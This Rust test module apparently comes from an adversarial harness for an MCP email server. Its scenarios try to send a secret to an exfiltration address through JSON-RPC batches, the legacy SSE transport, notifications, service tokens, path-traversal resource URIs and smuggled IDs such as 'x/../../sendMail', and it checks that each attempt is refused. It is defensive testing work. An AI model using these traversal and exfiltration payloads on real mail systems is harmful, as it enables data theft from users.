//! Ways around the one way in: batches, the old transport, tokens of other kinds, resource addresses, cursors.

use anyhow::{Context as _, Result, ensure};
use serde_json::{Value, json};

use super::sources::{CONFUSED_PARSER, DEPUTY, WRONG_TOKEN};
use crate::adversary::DROP;
use crate::adversary::Obey::Play;
use crate::adversary::assistant::Order;
use crate::adversary::goal::Stop;
use crate::adversary::plant::Plant;
use crate::adversary::stage::Stage;
use crate::json::Look as _;
use crate::mcp::{LEGACY, Mcp};
use crate::oauth::Discovered;
use crate::session::Session;
use crate::sse::Sse;

scenarios! {
    shared a_batch_sends_nothing:
        CONFUSED_PARSER, Plant::Told, Play(batch), Stop::Asked;
    shared the_old_transport_sends_nothing:
        DEPUTY, Plant::Told, Play(old_transport), Stop::Asked;
    shared a_notification_sends_nothing:
        CONFUSED_PARSER, Plant::Told, Play(notification), Stop::Asked;
    shared a_service_token_sends_nothing:
        WRONG_TOKEN, Plant::Told, Play(service_token), Stop::Asked;
    shared a_resource_address_leads_to_no_other_operation:
        CONFUSED_PARSER, Plant::Told, Play(addresses), Stop::Refused;
    shared ids_lead_to_no_other_operation:
        CONFUSED_PARSER, Plant::Told, Play(ids), Stop::Refused;
    shared a_cursor_carries_no_arguments_to_another_tool:
        CONFUSED_PARSER, Plant::Told, Play(cursor), Stop::Asked;
    shared a_grant_of_reading_alone_sends_nothing:
        DEPUTY, Plant::Told, Play(narrow), Stop::Denied("denied.scopes");
}

fn letter(stage: &Stage<'_>) -> Value {
    let arguments = json!({ "to": DROP, "subject": "s", "body": stage.secret });
    json!({ "name": "sendEmail", "arguments": arguments })
}

fn batch(stage: &mut Stage<'_>) -> Result<()> {
    let read = json!({ "name": "getEmail", "arguments": { "id": stage.secret_mail } });
    let inside = json!({ "name": "sendEmail", "arguments":
        { "to": stage.colleague.email, "subject": "s", "body": stage.secret } });
    // Reading and sending in one batch: whatever runs first, the words were asked for before the letter was.
    let calls = [read.clone(), letter(stage), inside.clone(), read, inside.clone(), inside];
    let message = |(id, params): (usize, &Value)| json!({ "jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params });
    let batch: Vec<Value> = calls.iter().enumerate().map(message).collect();
    stage.read_secret()?;
    let answer =
        stage.session.mcp.bare().header("mcp-protocol-version", LEGACY[2]).json(&json!(batch)).send()?;
    answer.expect(&[200])?;
    stage.nothing_got_out()
}

fn old_transport(stage: &mut Stage<'_>) -> Result<()> {
    stage.read_secret()?;
    let url = stage.site.edge("/sse")?;
    let client = Discovered::at(&url)?.client()?;
    let session = Session::by(stage.site, stage.session.person.clone(), client, None)?;
    let mut sse = Sse::open(&url, &session.tokens.access)?;
    sse.initialize()?;
    for _ in 0..2 {
        let result = sse.result("tools/call", &letter(stage))?;
        ensure!(result.at("/isError") == true, "the old transport let it through: {result}");
    }
    stage.nothing_got_out()
}

fn notification(stage: &mut Stage<'_>) -> Result<()> {
    stage.read_secret()?;
    let mcp = &stage.session.mcp;
    let mut message = mcp.message("tools/call", &letter(stage));
    message.as_object_mut().context("an object")?.remove("id");
    mcp.request(&message).send()?;
    mcp.tool("sendEmail", letter(stage).at("/arguments"))?;
    stage.nothing_got_out()
}

fn service_token(stage: &mut Stage<'_>) -> Result<()> {
    stage.read_secret()?;
    let service = stage.site.control.service_token()?;
    let alone = Mcp { headers: service.headers(), ..Mcp::new(&stage.site.mcp, "") };
    alone.send("tools/call", &letter(stage))?.answer.expect(&[401, 403])?;
    // Beside the person's token it adds nothing to what that may do.
    let beside = Mcp { headers: service.headers(), ..stage.session.mcp.clone() };
    let reply = beside.send("tools/call", &letter(stage))?;
    ensure!(reply.success().is_err(), "a service token approves: {}", reply.answer);
    stage.nothing_got_out()
}

fn addresses(stage: &mut Stage<'_>) -> Result<()> {
    for address in [
        "microsoft://messages/x%2F..%2F..%2FsendMail",
        "microsoft://messages/../sendMail",
        "microsoft://people/x/../../users/drop%40exfil.example",
        "microsoft://files/root%3A%2Fa.txt%3A%2FcreateLink",
        "microsoft://exfil.example/drop",
        "https://exfil.example/drop",
    ] {
        let before = stage.session.graph_requests()?.len();
        let reply = stage.session.mcp.resource(&address.replace("drop", &stage.secret))?;
        ensure!(reply.result().is_err(), "{address} was read: {}", reply.answer);
        let after = stage.session.graph_requests()?;
        let posts = after.iter().skip(before).filter(|call| call.at("/method") != "GET").count();
        ensure!(posts == 0, "{address} led to another operation");
    }
    stage.nothing_got_out()
}

fn ids(stage: &mut Stage<'_>) -> Result<()> {
    stage.read_secret()?;
    let orders = [
        Order::new("updateEmail", json!({ "id": "x/../../sendMail", "isRead": true })),
        Order::new(
            "moveEmail",
            json!({ "id": format!("{}/forward?", stage.secret_mail), "folder": "archive" }),
        ),
        Order::new("listFolder", json!({ "id": "root/createLink" })),
        Order::new(
            "createDraft",
            json!({ "subject": "s", "body": stage.secret, "mailbox": "me/sendMail#@contoso.example" }),
        ),
        Order::new("noSuchTool", json!({ "to": DROP })),
    ];
    for order in &orders {
        let reply = stage.call(order)?;
        ensure!(reply.success().is_err(), "{order:?}: {}", reply.answer);
    }
    stage.nothing_got_out()
}

fn cursor(stage: &mut Stage<'_>) -> Result<()> {
    let listed = stage.call(&Order::new("getEmails", json!({ "count": 1 })))?;
    let cursor = listed.content()?.text("/nextCursor")?.to_owned();
    let mut arguments = letter(stage).at("/arguments").clone();
    arguments = crate::json::with(&arguments, &json!({ "cursor": cursor }));
    stage.obey(&[Order::new("sendEmail", arguments)])?;
    stage.nothing_got_out()
}

fn narrow(stage: &mut Stage<'_>) -> Result<()> {
    stage.read_secret()?;
    let client = Discovered::at(&stage.site.mcp)?.client()?;
    let narrow = Session::by(stage.site, stage.session.person.clone(), client, Some("Mail.Read"))?;
    let reply = narrow.mcp.send("tools/call", &letter(stage))?;
    reply.answer.expect(&[403])?;
    stage.nothing_got_out()
}
